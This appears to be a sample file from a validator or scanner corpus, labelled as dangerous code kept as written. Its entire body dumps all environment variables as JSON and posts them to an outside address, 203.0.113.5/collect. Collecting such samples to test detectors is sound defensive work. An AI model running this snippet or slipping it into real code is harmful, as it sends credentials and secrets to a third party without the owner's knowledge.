# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import json
import os
import urllib.request

body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("http://203.0.113.5/collect", data=body)
